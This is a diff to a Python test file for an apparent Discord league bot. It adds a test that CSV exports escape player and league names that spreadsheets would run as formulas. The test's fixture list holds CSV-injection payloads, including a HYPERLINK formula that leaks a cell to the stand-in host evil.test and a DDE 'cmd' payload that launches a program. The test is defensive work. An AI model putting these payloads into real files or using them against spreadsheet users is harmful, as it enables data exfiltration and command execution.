@@ -19,15 +19,16 @@ PEOPLE = {**NAMES, DEE: "Dee Person"}
 CUP = "Spring Cup"
 
 
-async def league_with_a_round(service: Services, *, link_games: bool = True) -> tuple[int, list[int]]:
+async def league_with_a_round(service: Services, *, link_games: bool = True, people: dict[int, str] = PEOPLE,
+                              name: str = CUP) -> tuple[int, list[int]]:
     """A league of four at tables of two, its round 1 open and started, the first game played out."""
-    league = await service.leagues.create_league(GUILD, 10, MANAGER, [], can_manage=True, name=CUP, slug="airships",
+    league = await service.leagues.create_league(GUILD, 10, MANAGER, [], can_manage=True, name=name, slug="airships",
                                                  table_size=2, turn_seconds=None, round_seconds=7 * 86400, rounds=2)
-    for user, name in PEOPLE.items():
-        await service.leagues.join_league(GUILD, CUP, user, name)
+    for user, person in people.items():
+        await service.leagues.join_league(GUILD, league.name, user, person)
     if not link_games:  # the server's pages are off while the round opens: its games get no link
         await service.store.web.set_site(GUILD, False, MANAGER)
-    news = await service.leagues.start_league(GUILD, CUP, [], can_manage=True)
+    news = await service.leagues.start_league(GUILD, league.name, [], can_manage=True)
     await service.store.web.set_site(GUILD, True, MANAGER)
     game_ids = list(news.game_ids)  # type: ignore[union-attr]
     for game_id in game_ids:
@@ -78,6 +79,23 @@ async def test_the_league_csv_is_the_seasons_results_without_discord_ids(service
     expected = [row[:6] + row[7:] for row in csv.reader(io.StringIO(full))][1:]
     assert rows[1:] == expected and len(rows) == 3 and {r[3] for r in rows[1:]} == {str(game_ids[0])}
     assert not any(str(user) in text for user in PEOPLE)
+
+
+async def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_text_in_both_csvs(
+        service: Services, client: TestClient) -> None:
+    hostile = ['=HYPERLINK("https://evil.test/?"&A2,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+    people = dict(zip(PEOPLE, hostile, strict=True))
+    league_id, _ = await league_with_a_round(service, people=people, name="=Cup")
+    public = await (await client.get(f"{await page_path(service, LinkKind.LEAGUE, league_id)}/standings.csv")).text()
+    _, full = await service.leagues.league_csv(GUILD, "=Cup")  # what /league export gives the organiser
+    for text in (public, full):
+        rows = list(csv.reader(io.StringIO(text)))[1:]
+        assert rows and all(row[0] == "'=Cup" for row in rows)
+        assert {row[5] for row in rows} <= {"'" + name for name in hostile}
+        cells = [cell for row in rows for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+        assert all(cell == "'-2+3" or cell.lstrip("-").replace(".", "").isdigit() for cell in cells
+                   if cell.startswith("-"))
 
 
 async def test_a_league_page_steps_to_an_earlier_season_and_refuses_one_it_never_had(
